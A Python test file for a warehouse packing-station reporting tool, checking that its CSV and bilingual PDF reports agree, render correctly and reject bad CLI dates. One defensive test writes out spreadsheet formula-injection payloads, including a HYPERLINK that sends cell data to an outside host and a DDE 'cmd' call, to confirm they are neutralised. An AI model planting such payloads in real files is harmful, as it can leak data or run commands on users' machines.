"""CSV, PDF and figures agree: all render one Figures object; the CLI writes both formats."""

import csv
import subprocess

from app.config import SlaSettings
from app.events import EventLog
from app.i18n import Msg
from app.reports import figures_rows, write_csv, write_pdf
from app.stats import Figures, StepFigure, day_bounds_ms, figures_from_store
from tests.conftest import run_cli
from tests.test_stats import TZ, utc_ms


def _figs(store):
    now = {"t": 0}
    log = EventLog(store, "ST1", clock_ms=lambda: now["t"])
    for i, kind in enumerate(["accepted", "wrong_item", "wrong_item", "over_scan"]):
        now["t"] = utc_ms(2026, 11, 16, 3, i)
        log.append("scan", {"verdict": {"kind": kind}}, operator_id="op1", order_id="SO1", kind=kind)
    now["t"] = utc_ms(2026, 11, 16, 4, 0)
    log.append("order_completed", {"complexity": "mixed"}, operator_id="op1", order_id="SO1")
    a, b = day_bounds_ms("2026-11-16", "2026-11-22", TZ)
    return figures_from_store(store, tz=TZ, start=a, end=b, sla=SlaSettings())


def test_csv_matches_figures(store, tmp_path):
    f = _figs(store)
    out = write_csv(f, tmp_path / "r.csv")
    with open(out, encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    got = {(r[0], r[1]): r[2] for r in rows[1:]}
    assert got[("error_type", "wrong_item")] == "2"
    assert got[("per_1000_scans", "wrong_item")] == "500.0"
    assert got[("per_1000_orders", "over_scan")] == "1000.0"
    assert got[("hour", "11")] == "3"  # 03:xx UTC = 11:xx Shanghai
    assert len(rows) - 1 == len(figures_rows(f))


def test_pdf_renders_with_the_same_counts(store, tmp_path):
    f = _figs(store)
    out = write_pdf(f, tmp_path / "r.pdf")
    txt = subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True, timeout=30).stdout
    assert "errors 3" in txt
    assert "错误模式报告" in txt and "按小时" in txt  # the Chinese runs are real text, not pictures
    # error types by their names, in both languages, as the screen calls them (it printed "wrong_item")
    assert "Wrong item" in txt and "Too many" in txt and "wrong_item" not in txt
    assert Msg("Wrong item").text("zh_CN") in txt


def test_pdf_reads_as_a_supervisor_reads_the_screen(store, tmp_path):
    """The days in the warehouse's zone (it printed "2026-11-15T16:00:00+00:00 - 2026-11-22T16:00:00+00:00
    (Asia/Shanghai)": a week that seemed to start the day before), seconds to a tenth (it printed
    "2.9619999999999997"), shares in per cent, counts on whole-number ticks (0.002, 0.004 … with no errors)."""
    f = _figs(store)
    f.steps["pick"] = StepFigure(n=2, median_s=2.9619999999999997, p90_s=4.648, sla_s=7200.0, late_share=0.5)
    f.steps["verify"] = StepFigure(n=0, sla_s=1800.0)
    out = write_pdf(f, tmp_path / "r.pdf")
    txt = subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True, timeout=30).stdout
    assert "2026-11-16 – 2026-11-22 (Asia/Shanghai)" in txt and "T16:00" not in txt
    assert "3.0 / 4.6" in txt and "7200" in txt and "7200.0" not in txt and "50%" in txt
    assert "2.96199" not in txt
    assert "复核 / Check —" in " ".join(txt.split())  # a step by its name, with no time: a dash, not " / "
    empty = write_pdf(Figures(start=f.start, end=f.end, tz=f.tz), tmp_path / "e.pdf")
    txt = subprocess.run(["pdftotext", str(empty), "-"], capture_output=True, text=True, timeout=30).stdout
    assert "0.002" not in txt and "0.5" not in txt
    csv_rows = {(r[0], r[1]): r[2] for r in csv.reader(write_csv(f, tmp_path / "r.csv").read_text(
        encoding="utf-8-sig").splitlines())}
    assert csv_rows[("step_pick", "median_s")] == "2.962"


def test_pdf_says_when_there_were_no_errors_and_heads_each_section_in_both_languages(store, tmp_path):
    """A week without errors printed two empty charts (an axis from 0 to 1, no bar) and a table whose "type" and
    "operator" headings had nothing under them; the headings and totals were English alone, and the steps their keys
    ("verify")."""
    f = _figs(store)
    txt = " ".join(subprocess.run(["pdftotext", str(write_pdf(f, tmp_path / "r.pdf")), "-"], capture_output=True,
                                  text=True, timeout=30).stdout.split())
    for heading in ("错误类型 / Error type", "每千次扫描 / Per 1,000 scans", "操作员 / Operator", "步骤 / Step",
                    "超时占比 / Late share"):
        assert heading in txt, heading
    assert "拣货 / Pick" in txt and "No errors" not in txt
    assert "扫描 4 · 订单 1 · 错误 3 / scans 4 · orders 1 · errors 3" in txt  # the totals as the screen says them
    quiet = Figures(start=f.start, end=f.end, tz=f.tz, scans=40)
    quiet.steps["pick"] = StepFigure(n=3, median_s=31.0, p90_s=40.0, sla_s=7200.0, late_share=0.0)
    out = write_pdf(quiet, tmp_path / "q.pdf")
    txt = " ".join(subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True, timeout=30)
                   .stdout.split())
    assert "这几天没有错误 / No errors on these days" in txt
    assert "By error type" not in txt and "By hour of day" not in txt  # no empty charts
    assert "Error type" not in txt and "Operator" not in txt  # no heading with nothing under it
    assert "步骤 / Step" in txt and "31.0 / 40.0" in txt


def test_pdf_embeds_every_font(store, tmp_path):
    """A report must read on any viewer and printer: no font left for the reader's machine to supply."""
    out = write_pdf(_figs(store), tmp_path / "r.pdf")
    r = subprocess.run(["pdffonts", str(out)], capture_output=True, text=True, timeout=30)
    assert r.returncode == 0, r.stderr
    rows = r.stdout.splitlines()[2:]  # name type encoding emb sub uni object ID
    assert len(rows) >= 2, r.stdout  # Latin + CJK at least
    for row in rows:
        emb, sub = row.split()[-5], row.split()[-4]
        assert (emb, sub) == ("yes", "yes"), r.stdout
    assert "STSong" not in r.stdout and "Helvetica" not in r.stdout


def test_pdf_table_text_is_drawn_on_the_rendered_page(store, tmp_path):
    """pdftoppm paints ink where pdftotext finds the table's words (blank tables were the failure)."""
    import re

    from PIL import Image

    out = write_pdf(_figs(store), tmp_path / "r.pdf")
    dpi = 72  # 1 pixel = 1 PDF point, the unit of the -bbox output
    html = subprocess.run(["pdftotext", "-bbox", str(out), "-"], capture_output=True, text=True, timeout=30).stdout
    pages = html.count("<page ")
    subprocess.run(["pdftoppm", "-r", str(dpi), "-gray", "-png", str(out), str(tmp_path / "p")], check=True, timeout=60)
    pngs = sorted(tmp_path.glob("p-*.png"))
    assert len(pngs) == pages >= 1
    words = re.findall(r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]+)</word>',
                       html.split("<page ")[1])
    checked = 0
    page1 = Image.open(pngs[0]).convert("L")
    for x0, y0, x1, y1, w in words:
        if w in ("Wrong", "Too", "Operator", "错误模式报告"):
            box = page1.crop((int(float(x0)), int(float(y0)), int(float(x1)) + 1, int(float(y1)) + 1))
            dark = sum(1 for px in box.tobytes() if px < 128)
            assert dark > 5, f"{w!r} is text in the PDF but nothing is drawn there"
            checked += 1
    assert checked >= 4, words


def test_cli_report_bad_date_is_a_message():
    r = run_cli("report", "--from", "16/11/2026", "--to", "2026-11-22", "--format", "csv")
    assert r.returncode == 2
    assert "YYYY-MM-DD" in r.stderr and "Traceback" not in r.stderr


def test_cli_report_takes_an_operator_by_badge_and_names_the_operators(tmp_path):
    """`packstation report --operator K-001`: the badge a supervisor knows, not the log's operator id."""
    from app.operators import OperatorDirectory
    from app.store import open_store

    data = tmp_path / "station"
    data.mkdir()
    cfg = tmp_path / "station.toml"
    cfg.write_text(f'[station]\ndata_dir = "{data}"\nwarehouse_tz = "Asia/Shanghai"\n', encoding="utf-8")
    store = open_store(data / "station.sqlite3")
    ops = OperatorDirectory(store)
    ops.add(badge="K-001", name="Zhang Min", role="packer", pin="2222", op_id="OP-K1")
    ops.add(badge="K-002", name="Li Na", role="packer", pin="3333", op_id="OP-K2")
    log = EventLog(store, "ST1", clock_ms=lambda: utc_ms(2026, 11, 16, 3, 0))
    for op in ("OP-K1", "OP-K2", "OP-K2"):
        log.append("scan", {"verdict": {"kind": "wrong_item"}}, operator_id=op, order_id="SO1", kind="wrong_item")
    store.close()
    out = tmp_path / "r.pdf"
    r = run_cli("report", "--from", "2026-11-16", "--to", "2026-11-16", "--operator", "K-001", "--out", str(out),
                "--config", str(cfg))
    assert r.returncode == 0, r.stderr
    txt = " ".join(subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True, timeout=30)
                   .stdout.split())
    assert "errors 1" in txt and "Operator: Zhang Min (K-001)" in txt and "Zhang Min (K-001) 1" in txt
    r = run_cli("report", "--from", "2026-11-16", "--to", "2026-11-16", "--operator", "n", "--out", str(out),
                "--config", str(cfg))  # in both names: refused, saying whom (a report of nobody looked error-free)
    assert r.returncode == 2 and "could be: Li Na (K-002), Zhang Min (K-001)" in r.stderr, r.stderr
    assert "可能是" in r.stderr


def test_cli_report_without_out_never_writes_over_an_earlier_one(tmp_path):
    """`packstation report` without --out wrote report_<from>_<to>.<fmt> in the current folder, over the previous
    one; it names its file as F6 does (the days and the time written) and prints it."""
    import os
    import sys
    from pathlib import Path

    data = tmp_path / "station"
    data.mkdir()
    cfg = tmp_path / "station.toml"
    cfg.write_text(f'[station]\ndata_dir = "{data}"\nwarehouse_tz = "Asia/Shanghai"\n', encoding="utf-8")
    here = tmp_path / "reports"
    here.mkdir()
    env = dict(os.environ, QT_QPA_PLATFORM="offscreen", PACKSTATION_LOG_DIR=str(tmp_path / "logs"),
               PYTHONPATH=str(Path(__file__).resolve().parent.parent))
    written = []
    for _ in range(2):
        r = subprocess.run([sys.executable, "-m", "packstation", "report", "--from", "2026-11-16", "--to", "2026-11-16",
                            "--format", "csv", "--config", str(cfg)], capture_output=True, text=True, env=env,
                           cwd=here, timeout=60)
        assert r.returncode == 0, r.stderr
        written.append(Path(r.stdout.strip()))
    assert written[0] != written[1] and all(p.exists() and p.parent.resolve() == here.resolve() for p in written)
    assert written[0].name.startswith("errors_2026-11-16_2026-11-16_at_"), written


def _pages(pdf) -> list[str]:
    """The PDF's text page by page, whitespace collapsed."""
    txt = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, timeout=30).stdout
    return [" ".join(p.split()) for p in txt.split("\f") if p.strip()]


def test_pdf_tables_stand_apart_their_headers_repeat_on_the_next_page_and_stations_have_theirs(store, tmp_path):
    """Error types, operators and steps were one grid (operator rows with two empty columns, the steps' header a grey
    row mid-table); a table running onto the next page continued there without its header (the Chinese report's
    Operator header was page 1's last line); the CSV had errors per station, the PDF none. A table per section, its
    header repeated on every page it runs onto; a table of stations; the errors nobody made said under the operators."""
    f = _figs(store)
    f.by_operator = {f"OP-{i:03d}": 1 for i in range(70)}  # a long list: it runs onto the next page
    f.by_station = {"ST1": 70, "ST2": 2}
    f.errors = 72
    f.steps["pick"] = StepFigure(n=2, median_s=3.0, p90_s=4.0, sla_s=7200.0, late_share=0.0)
    pages = _pages(write_pdf(f, tmp_path / "r.pdf"))
    assert len(pages) >= 2
    runs_on = next(p for p in pages[1:] if "OP-069" in p)
    assert runs_on.startswith("操作员 / Operator 错误数 / Errors OP-"), runs_on[:80]  # its header, then its rows
    whole = " ".join(pages)
    assert "工位 / Station 错误数 / Errors ST1 70 ST2 2" in whole
    assert "2 个错误不属于任何人" in whole and "2 errors are nobody's" in whole
    ops = whole.index("OP-069 1")
    assert whole.index("步骤 / Step", ops) > ops  # the steps' table after the operators', with its own header


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_and_numbers_stay_numbers(tmp_path):
    """Operator ids, names and station ids come from the OMS: "=HYPERLINK(…)" as an operator id was written as is, and
    Excel ran it. A text cell starting with = + - @ a tab or a carriage return gets a single quote in front (OWASP);
    counts are numbers, written as numbers; the CSV says its days, zone, source and filter first."""
    evil = {"=HYPERLINK(\"http://x/?\"&A1,\"pay\")": 1, "+1+cmd|' /C calc'!A0": 2, "-2+3": 3, "@SUM(1+1)": 4,
            "\tTAB": 5, "\rCR": 6, "op1": 7, "ad\u202enimda": 8}
    f = Figures(start="2026-11-15T16:00:00+00:00", end="2026-11-16T16:00:00+00:00", tz=TZ, scans=100, errors=36,
                by_type={"wrong_item": 36}, by_station={"=1+1": 36}, by_operator=evil)
    out = write_csv(f, tmp_path / "r.csv", operators={"op1": "=Zhang Min (K-001)"})
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    ops = {r[1]: r[2] for r in rows if r[0] == "operator"}
    assert ops == {"'=HYPERLINK(\"http://x/?\"&A1,\"pay\")": "1", "'+1+cmd|' /C calc'!A0": "2", "'-2+3": "3",
                   "'@SUM(1+1)": "4", "\\u0009TAB": "5", "\\u000dCR": "6", "'=Zhang Min (K-001)": "7",
                   "ad\\u202enimda": "8"}
    assert {r[1]: r[2] for r in rows if r[0] == "station"} == {"'=1+1": "36"}
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)
    assert ["total", "errors", "36"] in rows  # a number, no quote
    # what the figures are, read from their own bounds (the screen and the CLI say their source and filter)
    assert rows[1:4] == [["report", "from", "2026-11-16"], ["report", "to", "2026-11-16"], ["report", "time_zone", TZ]]


def test_cli_report_refuses_days_out_of_range_or_reversed_in_one_line(tmp_path):
    """`--from 0001-01-01` failed with a raw ValueError, `--to 9999-12-31` with an OverflowError, and a first day
    after the last wrote a report of zeros with rc 0: each is one line and rc 2, no file written."""
    cfg = tmp_path / "station.toml"
    cfg.write_text(f'[station]\ndata_dir = "{tmp_path / "station"}"\nwarehouse_tz = "Asia/Shanghai"\n',
                   encoding="utf-8")
    out = tmp_path / "r.csv"
    for d_from, d_to, said in (("0001-01-01", "2026-11-22", "0001-01-01 is outside the days a report takes"),
                               ("2026-11-16", "9999-12-31", "9999-12-31 is outside the days a report takes"),
                               ("2026-11-22", "2026-11-16", "the first day (2026-11-22) is after the last (2026-11-16)")):
        r = run_cli("report", "--from", d_from, "--to", d_to, "--format", "csv", "--out", str(out), "--config",
                    str(cfg))
        assert r.returncode == 2 and said in r.stderr and "Traceback" not in r.stderr, r.stderr
        assert len(r.stderr.strip().splitlines()) == 1 and not out.exists(), r.stderr
